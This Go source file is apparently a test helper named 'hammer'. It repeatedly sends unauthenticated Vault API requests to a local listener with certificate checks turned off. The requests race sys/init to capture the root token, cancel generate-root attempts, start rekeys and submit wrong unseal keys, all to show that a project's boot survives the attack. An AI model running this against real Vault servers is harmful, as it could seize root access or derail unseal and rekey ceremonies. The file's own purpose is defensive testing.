// Command hammer is the attacker of TestALocalUserHammeringVaultCannotStopTheBoot:
// an unprivileged local process that loops, as fast as Vault answers, on every
// request Vault takes without a token and edgeseal's boot could be hurt by:
// PUT sys/init (whoever inits first holds the root token), PUT and DELETE
// sys/generate-root/attempt (a cancel in the middle of edgeseal's ceremony
// fails it), PUT sys/rekey/init and sys/unseal with a wrong key. It speaks to
// Vault's TCP listener, which every local user reaches, and trusts any
// certificate (an attacker would). Each minute, and when it stops, it prints
// how many requests of each kind Vault answered, so the test can show the
// attack really ran. It stops after -duration, or at SIGTERM.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

type attack struct {
	name, method, path, body string
	answered                 atomic.Int64
}

func main() {
	addr := flag.String("addr", "127.0.0.1:8200", "Vault's TCP listener")
	workers := flag.Int("c", 4, "keep-alive clients")
	duration := flag.Duration("duration", 10*time.Minute, "stop after this long")
	flag.Parse()
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, *duration)
	defer cancel()

	attacks := []*attack{
		{name: "init", method: http.MethodPut, path: "/v1/sys/init", body: `{"secret_shares":1,"secret_threshold":1}`},
		{name: "generate-root-start", method: http.MethodPut, path: "/v1/sys/generate-root/attempt", body: `{}`},
		{name: "generate-root-cancel", method: http.MethodDelete, path: "/v1/sys/generate-root/attempt"},
		{name: "rekey-start", method: http.MethodPut, path: "/v1/sys/rekey/init", body: `{"secret_shares":1,"secret_threshold":1}`},
		{name: "unseal-wrong-key", method: http.MethodPut, path: "/v1/sys/unseal", body: `{"key":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}`},
	}
	client := &http.Client{
		Timeout:   5 * time.Second,
		Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: *workers},
	}
	report := func(when string) {
		line := when + ":"
		for _, a := range attacks {
			line += fmt.Sprintf(" %s=%d", a.name, a.answered.Load())
		}
		fmt.Println(line)
	}
	var wg sync.WaitGroup
	for w := range *workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; ctx.Err() == nil; i++ {
				a := attacks[i%len(attacks)]
				req, err := http.NewRequestWithContext(ctx, a.method, "https://"+*addr+a.path, bytes.NewBufferString(a.body))
				if err != nil {
					panic(err)
				}
				resp, err := client.Do(req)
				if err != nil {
					// Not listening (yet): try again soon, as an attacker would.
					select {
					case <-ctx.Done():
					case <-time.After(5 * time.Millisecond):
					}
					continue
				}
				resp.Body.Close()
				a.answered.Add(1)
			}
		}()
	}
	tick := time.NewTicker(time.Minute)
	defer tick.Stop()
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	for {
		select {
		case <-tick.C:
			report("so far")
		case <-done:
			report("stopped")
			os.Exit(0)
		}
	}
}
